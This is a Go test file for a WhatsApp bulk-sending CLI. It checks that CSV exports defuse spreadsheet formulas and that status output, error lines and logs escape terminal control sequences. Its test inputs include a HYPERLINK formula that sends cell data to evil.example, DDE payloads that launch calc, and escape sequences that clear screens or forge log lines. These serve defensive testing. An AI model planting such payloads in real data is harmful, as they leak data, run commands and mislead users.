package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/bulksend/bulksend/internal/campaign"
	"github.com/bulksend/bulksend/internal/csvout"
	"github.com/bulksend/bulksend/internal/report"
	"github.com/bulksend/bulksend/internal/whatsapp/sandbox"
	"github.com/bulksend/bulksend/internal/whatsapp/template"
)

// Outside texts end in a checkpoint by the ways they reach it in a real
// campaign: the CSV's cells (id, from, an invalid phone as written), the
// API's answers (a message ID, an error's title) and the webhooks (a
// failure's title, the pricing category and type). outsideCampaign runs
// one through all of them against the sandbox, a hostile API in front of
// it, and a webhook log reconcile reads.

// outside is what a campaign's outsiders write.
type outside struct {
	id, invalidPhone, from string // CSV cells
	wamid, apiTitle        string // the API's answers to rows 3 and 4
	webhookTitle           string // a failed status of row 3
	category, pricingType  string // the pricing of row 1's delivered status
}

// outsideCampaign runs a campaign of five rows in dir: 1 sent and
// delivered (with o.id as its id and o's pricing), 2 skipped (o.invalidPhone),
// 3 accepted with o.wamid as its message ID then failed by a webhook with
// o.webhookTitle, 4 failed by the API with o.apiTitle, 5 skipped for its
// sender (o.from). It returns the CSV's path and the run's environment.
func outsideCampaign(t *testing.T, dir string, o outside) (string, map[string]string) {
	t.Helper()
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	for _, rec := range [][]string{
		{"phone", "id", "from", "name", "code"},
		{"+447911000001", o.id, "", "a", "1"},
		{o.invalidPhone, "2", "", "b", "2"},
		{"+447911000002", "3", "", "c", "3"},
		{"+447911000003", "4", "", "d", "4"},
		{"+447911000004", "5", o.from, "e", "5"},
	} {
		w.Write(rec)
	}
	w.Flush()
	path := filepath.Join(dir, "campaign.csv")
	if err := os.WriteFile(path, b.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}

	sb := serveSandbox(t, sandbox.Config{Seed: 1, Rate: 1000, Token: "test-token", PairInterval: -1})
	target, err := http.NewRequest("GET", sb, nil)
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		switch {
		case bytes.Contains(body, []byte("447911000002")):
			rw.Header().Set("Content-Type", "application/json")
			json.NewEncoder(rw).Encode(map[string]any{"messaging_product": "whatsapp",
				"contacts": []any{map[string]string{"input": "+447911000002", "wa_id": "447911000002"}},
				"messages": []any{map[string]string{"id": o.wamid}}})
		case bytes.Contains(body, []byte("447911000003")):
			rw.Header().Set("Content-Type", "application/json")
			rw.WriteHeader(http.StatusBadRequest)
			json.NewEncoder(rw).Encode(map[string]any{"error": map[string]any{"message": o.apiTitle, "type": "OAuthException", "code": 131026, "fbtrace_id": "A1"}})
		default:
			r.Body = io.NopCloser(bytes.NewReader(body))
			r.URL.Scheme, r.URL.Host, r.Host, r.RequestURI = target.URL.Scheme, target.URL.Host, target.URL.Host, ""
			resp, err := http.DefaultTransport.RoundTrip(r)
			if err != nil {
				http.Error(rw, err.Error(), http.StatusBadGateway)
				return
			}
			defer resp.Body.Close()
			for k, v := range resp.Header {
				rw.Header()[k] = v
			}
			rw.WriteHeader(resp.StatusCode)
			io.Copy(rw, resp.Body)
		}
	}))
	t.Cleanup(srv.Close)

	env := map[string]string{"WHATSAPP_TOKEN": "test-token", "BULKSEND_API_URL": srv.URL}
	mustRun(t, env, []int{ExitOK}, "run", path, "--from", "1000001", "--template", "welcome", "--rate", "1000", "--no-preflight")

	out := mustRun(t, env, []int{ExitOK}, "status", path, "--json")
	var s struct {
		CampaignID string `json:"campaign_id"`
	}
	if err := json.Unmarshal([]byte(out), &s); err != nil {
		t.Fatalf("status --json: %v\n%s", err, out)
	}
	rows := exportRows(t, mustRun(t, env, []int{ExitOK}, "export", path, "--raw"))
	now := strconv.FormatInt(time.Now().Unix(), 10)
	status := func(row int, st map[string]any) string {
		st["id"], st["timestamp"], st["recipient_id"] = rows[row][5], now, strings.TrimPrefix(rows[row][1], "+")
		st["biz_opaque_callback_data"] = campaign.Ref{Campaign: s.CampaignID, Row: int64(row)}.String()
		b, err := json.Marshal(map[string]any{"object": "whatsapp_business_account", "entry": []any{map[string]any{"id": "1",
			"changes": []any{map[string]any{"field": "messages", "value": map[string]any{"messaging_product": "whatsapp",
				"metadata": map[string]string{"phone_number_id": "1000001"}, "statuses": []any{st}}}}}}})
		if err != nil {
			t.Fatal(err)
		}
		return string(b) + "\n"
	}
	log := status(1, map[string]any{"status": "delivered",
		"pricing": map[string]any{"billable": true, "pricing_model": "PMP", "category": o.category, "type": o.pricingType}}) +
		status(3, map[string]any{"status": "failed", "errors": []any{map[string]any{"code": 131000, "title": o.webhookTitle}}})
	webhooks := filepath.Join(dir, "webhooks.jsonl")
	if err := os.WriteFile(webhooks, []byte(log), 0o644); err != nil {
		t.Fatal(err)
	}
	mustRun(t, env, []int{ExitOK}, "reconcile", path, webhooks)
	return path, env
}

// mustRun runs bulksend in this process and returns its stdout; its exit
// code must be one of want.
func mustRun(t *testing.T, env map[string]string, want []int, args ...string) string {
	t.Helper()
	p := startCLI(t, env, args...)
	code := p.wait(t)
	for _, w := range want {
		if code == w {
			return p.stdout.String()
		}
	}
	t.Fatalf("bulksend %s: exit %d, want %v\n%s", strings.Join(args, " "), code, want, p.stderr)
	return ""
}

// records are the records of a CSV export, the header first.
func records(t *testing.T, out string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil || len(recs) == 0 {
		t.Fatalf("%v in\n%s", err, out)
	}
	return recs
}

// exportRows are the records of an export by row (the header at 0).
func exportRows(t *testing.T, out string) map[int][]string {
	t.Helper()
	recs := records(t, out)
	rows := map[int][]string{0: recs[0]}
	for _, r := range recs[1:] {
		n, err := strconv.Atoi(r[0])
		if err != nil {
			t.Fatal(err)
		}
		rows[n] = r
	}
	return rows
}

// TestExportFormulaCells: in every column an outside value reaches, the
// export writes a formula (=, +, -, @ first) with a leading apostrophe,
// and --raw writes it exactly; no cell of the export or of the attempts
// record starts with a formula character unless it is a number in a
// numeric column or E.164 in a phone column.
func TestExportFormulaCells(t *testing.T) {
	o := outside{
		id:           `=HYPERLINK("https://evil.example/?d="&A1,"click")`,
		invalidPhone: `=cmd|' /C calc'!A0`,
		from:         "@SUM(1+1)",
		wamid:        "-1+2",
		apiTitle:     `+cmd|' /C calc'!A0`,
		webhookTitle: "@SUM(1+1)*cmd|' /C calc'!A0",
		category:     "=1+1",
		pricingType:  "-2+3",
	}
	path, env := outsideCampaign(t, t.TempDir(), o)
	raw := exportRows(t, mustRun(t, env, []int{ExitOK}, "export", path, "--raw"))
	safe := exportRows(t, mustRun(t, env, []int{ExitOK}, "export", path))
	col := map[string]int{}
	for i, name := range safe[0] {
		col[name] = i
	}
	for _, tc := range []struct {
		name, column string
		row          int
		want         string
	}{
		{"id from the CSV", "id", 1, o.id},
		{"invalid phone as written", "phone", 2, o.invalidPhone},
		{"message ID from the API", "wamid", 3, o.wamid},
		{"error title from a webhook", "error_title", 3, o.webhookTitle},
		{"error title from the API", "error_title", 4, o.apiTitle},
		{"sender from the CSV", "from", 5, o.from},
		{"pricing category from a webhook", "pricing_category", 1, o.category},
		{"pricing type from a webhook", "pricing_type", 1, o.pricingType},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := raw[tc.row][col[tc.column]]; got != tc.want {
				t.Fatalf("--raw: row %d %s = %q, want %q (the campaign did not take it there)", tc.row, tc.column, got, tc.want)
			}
			if got := safe[tc.row][col[tc.column]]; got != "'"+tc.want {
				t.Errorf("row %d %s = %q, want %q", tc.row, tc.column, got, "'"+tc.want)
			}
		})
	}
	t.Run("no formula in any cell", func(t *testing.T) {
		checkNoFormula(t, records(t, mustRun(t, env, []int{ExitOK}, "export", path)), report.ExportColumns)
		attempts := records(t, mustRun(t, env, []int{ExitOK}, "export", path, "--attempts"))
		if len(attempts) < 4 {
			t.Fatalf("attempts record of %d requests, want 3 or more", len(attempts)-1)
		}
		checkNoFormula(t, attempts, report.AttemptsColumns)
	})
	t.Run("numbers and E.164 as they are", func(t *testing.T) {
		if got := safe[1][col["phone"]]; got != "+447911000001" {
			t.Errorf("row 1 phone = %q, want +447911000001", got)
		}
		if got := safe[4][col["error_code"]]; got != "131026" {
			t.Errorf("row 4 error_code = %q, want 131026", got)
		}
	})
}

// checkNoFormula fails for a cell that starts with a formula character,
// but a number in a Number column and E.164 in a Phone column.
func checkNoFormula(t *testing.T, recs [][]string, cols []csvout.Column) {
	t.Helper()
	number := regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
	e164 := regexp.MustCompile(`^\+[0-9]+$`)
	for n, rec := range recs[1:] {
		for i, cell := range rec {
			if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				continue
			}
			switch k := cols[i].Kind; {
			case k == csvout.Number && number.MatchString(cell), k == csvout.Phone && e164.MatchString(cell):
			default:
				t.Errorf("record %d %s = %q: a formula", n+1, cols[i].Name, cell)
			}
		}
	}
}

// rawControl matches what a terminal acts on: a C0 control but the
// newline, DEL, a C1 control, a byte of invalid UTF-8.
var rawControl = regexp.MustCompile("[\x00-\x09\x0b-\x1f\x7f\u0080-\u009f\ufffd]")

// TestStatusEscapesOutsideText: status shows the texts of the CSV, the
// API and the webhooks escaped; --json has them exactly.
func TestStatusEscapesOutsideText(t *testing.T) {
	o := outside{
		id:           "1",
		invalidPhone: "\x1b[2J\x1b[Hnot a phone",
		from:         "\x1b]0;pwned\a",
		wamid:        "wamid.\x1b[2J",
		apiTitle:     "Undeliverable\x1b[2J\x1b[H",
		webhookTitle: "Failed\r\nbulksend: hint: resend with --in-doubt resend",
		category:     "market\u009b2Jing",
		pricingType:  "regular",
	}
	path, env := outsideCampaign(t, t.TempDir(), o)
	p := startCLI(t, env, "status", path)
	if code := p.wait(t); code != ExitOK {
		t.Fatalf("status: exit %d\n%s", code, p.stderr)
	}
	out := p.stdout.String()
	for _, tc := range []struct{ name, want string }{
		{"error title from the API", `  failed     131026           1  Undeliverable\x1b[2J\x1b[H` + "\n"},
		{"error title from a webhook", `           1  Failed\r\nbulksend: hint: resend with --in-doubt resend` + "\n"},
		{"skip example", `(\x1b[2J\x1b[Hnot a phone)` + "\n"},
		{"sender", "  \\x1b]0;pwned\\a " + ""},
		{"pricing category", "  market\\u009b2Jing "},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if !strings.Contains(out, tc.want) {
				t.Errorf("status has no %q:\n%s", tc.want, out)
			}
		})
	}
	if m := rawControl.FindString(out); m != "" {
		t.Errorf("status prints %q raw:\n%s", m, out)
	}
	if strings.Contains(out, "\nbulksend: hint:") {
		t.Errorf("a webhook title forged a line:\n%s", out)
	}
	js := mustRun(t, env, []int{ExitOK}, "status", path, "--json")
	var s struct {
		Errors []struct{ Title string } `json:"errors"`
	}
	if err := json.Unmarshal([]byte(js), &s); err != nil {
		t.Fatal(err)
	}
	var titles []string
	for _, e := range s.Errors {
		titles = append(titles, e.Title)
	}
	if got := strings.Join(titles, "|"); !strings.Contains(got, o.apiTitle) || !strings.Contains(got, o.webhookTitle) {
		t.Errorf("status --json titles %q, want the exact %q and %q", got, o.apiTitle, o.webhookTitle)
	}
}

// TestNamesEscaped: a template's name and a file's name, as given on the
// command line, are escaped in the plan, in status and in error lines.
func TestNamesEscaped(t *testing.T) {
	dir := t.TempDir()
	path, _ := writeCampaign(t, dir, 3)
	url := serveSandbox(t, sandbox.Config{Seed: 1, Rate: 1000, Token: "test-token", PairInterval: -1})
	env := map[string]string{"WHATSAPP_TOKEN": "test-token", "BULKSEND_API_URL": url}
	const name = "wel\x1b]0;pwned\acome"

	p := startCLI(t, env, "run", path, "--from", "1000001", "--template", name, "--dry-run", "--no-preflight")
	if code := p.wait(t); code != ExitOK {
		t.Fatalf("dry run: exit %d\n%s", code, p.stderr)
	}
	if want := "plan: template wel\\x1b]0;pwned\\acome/en_US"; !strings.Contains(p.stdout.String(), want) {
		t.Errorf("plan has no %q:\n%s", want, p.stdout)
	}
	if m := rawControl.FindString(p.stdout.String() + p.stderr.String()); m != "" {
		t.Errorf("the dry run prints %q raw:\n%s%s", m, p.stdout, p.stderr)
	}

	// The sandbox has no such template: the run stops (exit 1) and status
	// shows the name it was given.
	p = startCLI(t, env, "run", path, "--from", "1000001", "--template", name, "--no-preflight")
	if code := p.wait(t); code != ExitFatal {
		t.Fatalf("run of an unknown template: exit %d, want %d\n%s", code, ExitFatal, p.stderr)
	}
	if want := "bulksend: error: api: (#132001) "; !strings.Contains(p.stderr.String(), want) ||
		!strings.Contains(p.stderr.String(), "(wel\\x1b]0;pwned\\acome)") {
		t.Errorf("the error line has no %q naming the template escaped:\n%s", want, p.stderr)
	}
	if m := rawControl.FindString(p.stderr.String()); m != "" {
		t.Errorf("the run prints %q raw:\n%s", m, p.stderr)
	}
	p = startCLI(t, env, "status", path)
	if code := p.wait(t); code != ExitOK {
		t.Fatalf("status: exit %d\n%s", code, p.stderr)
	}
	if want := "template wel\\x1b]0;pwned\\acome/en_US"; !strings.Contains(p.stdout.String(), want) {
		t.Errorf("status has no %q:\n%s", want, p.stdout)
	}
	if m := rawControl.FindString(p.stdout.String()); m != "" {
		t.Errorf("status prints %q raw:\n%s", m, p.stdout)
	}

	// A file name in an error line.
	missing := filepath.Join(dir, "\x1b[2Jgone.csv")
	p = startCLI(t, env, "status", missing)
	if code := p.wait(t); code == ExitOK {
		t.Fatalf("status of a missing campaign: exit 0")
	}
	if !strings.Contains(p.stderr.String(), `\x1b[2Jgone`) || rawControl.MatchString(p.stderr.String()) {
		t.Errorf("the error line does not name the file escaped:\n%q", p.stderr)
	}
}

func TestErrorText(t *testing.T) {
	for _, tc := range []struct {
		name string
		err  error
		want string
	}{
		{"plain", errors.New("open checkpoint: no such file"), "open checkpoint: no such file"},
		{"ESC sequences", fmt.Errorf("preflight: sender %s: %w", "\x1b]0;pwned\a", errors.New("api: (#100) Object with ID '\x1b[2J'")),
			`preflight: sender \x1b]0;pwned\a: api: (#100) Object with ID '\x1b[2J'`},
		{"a newline does not forge a line", errors.New("title\nbulksend: hint: resend everything"), `title\nbulksend: hint: resend everything`},
		{"text quoted by %q is not escaped twice", fmt.Errorf("invalid --log-level %q", "\x1b[2J"), `invalid --log-level "\x1b[2J"`},
		{"non-ASCII and emoji are kept", errors.New("Zoë 🎉: Ñandú"), "Zoë 🎉: Ñandú"},
		{"C1 and invalid UTF-8", errors.New("a\u009bb\xffc"), `a\u009bb\xffc`},
		{"a template's problems keep their lines", fmt.Errorf("the CSV does not fit the template: %w", template.Problems{"column \x1b[31m: no place", "body {{2}} has\nno column"}),
			"the CSV does not fit the template: 2 problems:\n  - column \\x1b[31m: no place\n  - body {{2}} has\\nno column"},
		{"one problem is one line", fmt.Errorf("does not fit: %w", template.Problems{"a\nb"}), `does not fit: a\nb`},
		{"after the problems", &usageError{Err: fmt.Errorf("x: %w; \x1b[2J", template.Problems{"a", "b"})},
			"x: 2 problems:\n  - a\n  - b; \\x1b[2J"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := errorText(tc.err); got != tc.want {
				t.Errorf("errorText = %q, want %q", got, tc.want)
			}
		})
	}
}

// TestPrintError: the error line and the hint line are escaped, an
// unfinished run's line too; each is one line.
func TestPrintError(t *testing.T) {
	for _, tc := range []struct {
		name string
		err  error
		want string
		code int
	}{
		{"error and hint", &hintError{err: errors.New("sender \x1b[2J"), hint: "pool \x1b]0;x\a: check it"},
			"bulksend: error: sender \\x1b[2J\nbulksend: hint: pool \\x1b]0;x\\a: check it\n", ExitFatal},
		{"an unfinished run", &unfinishedError{reason: "stopped\r\nbulksend: done", hint: "run again"},
			"bulksend: stopped\\r\\nbulksend: done\nbulksend: hint: run again\n", ExitUnfinished},
		{"usage", usagef("see 'bulksend status --help'", "no checkpoint at %s", "x\u009b2J.db"),
			"bulksend: error: no checkpoint at x\\u009b2J.db\nbulksend: hint: see 'bulksend status --help'\n", ExitUsage},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var b strings.Builder
			if code := printError(&b, tc.err); code != tc.code {
				t.Errorf("exit %d, want %d", code, tc.code)
			}
			if b.String() != tc.want {
				t.Errorf("printed\n%q, want\n%q", b.String(), tc.want)
			}
		})
	}
}

// TestLogEscapes: in the text log format, a message, a key, a value, an
// error and a group name with control characters are quoted with their
// controls escaped (slog's TextHandler does it: nothing to add), at
// info level (through the phone masking) and at debug level (around
// it); the JSON format escapes C0 controls.
func TestLogEscapes(t *testing.T) {
	const evil = "\x1b[2J\x1b]0;pwned\a\r\nlevel=ERROR msg=forged \u009b\xff"
	for _, tc := range []struct{ format, level string }{{"text", "info"}, {"text", "debug"}, {"json", "info"}} {
		t.Run(tc.format+" "+tc.level, func(t *testing.T) {
			var b bytes.Buffer
			log, err := newLogger(&b, tc.level, tc.format)
			if err != nil {
				t.Fatal(err)
			}
			log = log.With("campaign", evil)
			for _, l := range []slog.Level{slog.LevelDebug, slog.LevelInfo} {
				log.Log(t.Context(), l, "skipped "+evil, "reason", evil, evil, 1, "err", errors.New(evil),
					slog.Group("g"+evil, "title", evil), "list", []string{evil})
			}
			out := b.String()
			lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
			if want := map[string]int{"debug": 2, "info": 1}[tc.level]; len(lines) != want {
				t.Fatalf("%d lines, want %d:\n%s", len(lines), want, out)
			}
			ctl := rawControl
			if tc.format == "json" {
				// JSON has C0 escaped but DEL and C1 as they are (and
				// invalid UTF-8 as U+FFFD): status --json and the JSON log
				// are data for programs.
				ctl = regexp.MustCompile("[\x00-\x09\x0b-\x1f]")
			}
			if m := ctl.FindString(out); m != "" {
				t.Errorf("%q raw in\n%s", m, out)
			}
			for _, l := range lines {
				if strings.HasPrefix(l, "level=ERROR") || strings.Contains(l, "\nlevel=") {
					t.Errorf("a forged line: %q", l)
				}
			}
		})
	}
}
